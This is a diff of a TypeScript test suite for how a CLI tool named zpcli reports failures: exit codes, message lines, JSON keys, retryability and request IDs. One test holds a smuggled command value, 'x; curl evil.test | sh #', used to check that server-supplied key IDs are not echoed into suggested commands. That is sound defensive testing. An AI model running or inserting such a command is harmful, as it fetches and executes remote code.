@@ -31,32 +31,29 @@ const rendered = (failure: Failure, json: boolean) => escapeLines(render(describ
 const errorOf = (failure: Failure) =>
   (JSON.parse(rendered(failure, true)) as { readonly error: Record<string, unknown> }).error
 
-describe("every failure", () => {
-  it.each(all)("%s has the exit code of the table", (_, failure, code) => {
+describe("each failure", () => {
+  it.each(all)("%s has the documented exit code", (_, failure, code) => {
     expect(describeFailure(failure).exitCode).toBe(code)
   })
 
-  it("has a message, but for an end that was asked for and a reader that has gone", () => {
+  it("has a message, except an exit that was asked for and a closed pipe", () => {
     const mute = all.filter(([, failure]) => describeFailure(failure).message === undefined)
     expect(mute.map(([name]) => name)).toEqual(["ExitWith", "Quit", "OutputFailed 2"])
     for (const [, failure] of mute) expect(render(describeFailure(failure), false)).toEqual([])
   })
 
-  it.each(loud)(
-    "%s is reported in two lines, the second saying what to do, that drive no terminal",
-    (_, failure) => {
-      const lines = rendered(failure, false).split("\n")
-      expect(lines).toHaveLength(2)
-      expect(lines[1]).toMatch(/^\S.{8,}/)
-      expect(lines[0]).toMatch(/^zpcli: .{8,}[.?]( \[request ID [^\]]+\])?$/)
-      for (const line of lines) {
-        expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u)
-        expect(line).not.toMatch(/undefined|\[object|NaN|\.\.|{/)
-      }
-    },
-  )
+  it.each(loud)("%s is reported in two escaped lines, and the second says what to do", (_, failure) => {
+    const lines = rendered(failure, false).split("\n")
+    expect(lines).toHaveLength(2)
+    expect(lines[1]).toMatch(/^\S.{8,}/)
+    expect(lines[0]).toMatch(/^zpcli: .{8,}[.?]( \[request ID [^\]]+\])?$/)
+    for (const line of lines) {
+      expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u)
+      expect(line).not.toMatch(/undefined|\[object|NaN|\.\.|{/)
+    }
+  })
 
-  it.each(loud)("%s as JSON has the documented keys, and none without a value", (_, failure) => {
+  it.each(loud)("%s as JSON has only documented keys, each with a value", (_, failure) => {
     expect(rendered(failure, true)).not.toContain("\n")
     expect(Object.keys(JSON.parse(rendered(failure, true)))).toEqual(["error"])
     const error = errorOf(failure)
@@ -66,23 +63,26 @@ describe("every failure", () => {
     expect(error.exitCode).toBe(describeFailure(failure).exitCode)
   })
 
-  it.each(loud)("%s can be retried at 6, and at 9 if its cause may pass", (_, failure) => {
-    const { exitCode, retryable } = describeFailure(failure)
-    const cause = "cause" in failure ? (failure.cause as Failure | undefined) : undefined
-    const mayPass = cause?._tag === "TimedOut" || cause?._tag === "ServiceUnavailable"
-    const isLost = failure._tag === "RotationStopped" && failure.step === "create"
-    expect(retryable).toBe(exitCode === 6 || (exitCode === 9 && (mayPass || isLost)))
-  })
+  it.each(loud)(
+    "%s is retryable if it exits with 6, or with 9 because of a temporary cause",
+    (_, failure) => {
+      const { exitCode, retryable } = describeFailure(failure)
+      const cause = "cause" in failure ? (failure.cause as Failure | undefined) : undefined
+      const mayPass = cause?._tag === "TimedOut" || cause?._tag === "ServiceUnavailable"
+      const isLost = failure._tag === "RotationStopped" && failure.step === "create"
+      expect(retryable).toBe(exitCode === 6 || (exitCode === 9 && (mayPass || isLost)))
+    },
+  )
 
   it.each(loud.filter(([, failure]) => "requestId" in failure && failure.requestId !== undefined))(
-    "%s names the request",
+    "%s shows the request ID",
     (_, failure) => {
       expect(rendered(failure, false)).toContain("[request ID req-1]")
       expect(errorOf(failure).requestId).toBe("req-1")
     },
   )
 
-  it("behind an unknown outcome or a stopped rotation names its status", () => {
+  it("that caused an unknown outcome or stopped a rotation has its status in JSON", () => {
     const cause = new Errors.ServiceUnavailable({
       ...answered,
       status: 503,
@@ -97,7 +97,7 @@ describe("every failure", () => {
       expect(errorOf(failure)).toMatchObject({ status: 503, requestId: "req-1" })
   })
 
-  it("suggests a command with a key ID only if the server's text is one", () => {
+  it("suggests a command with a key ID only if the server sent a valid one", () => {
     const keyId = "x; curl evil.test | sh #"
     const failures = [
       new Errors.OutcomeUnknown({ label: "ci", found: [keyId], cause: undefined }),
@@ -121,11 +121,11 @@ describe("every failure", () => {
     }
   })
 
-  it.each(loud)("%s has its tag as its type, and its own message", (_, failure) => {
+  it.each(loud)("%s as JSON has its tag as the type, and its own message", (_, failure) => {
     expect(errorOf(failure)).toMatchObject({ type: failure._tag, message: escapeLines(failure.message) })
   })
 
-  it("uses no exit code that help does not list", () => {
+  it("has an exit code that help lists", () => {
     const listed = Object.keys(exitCodeMeanings).map(Number)
     for (const [, failure, code] of all) {
       if (failure._tag !== "ExitWith") expect(listed).toContain(code)
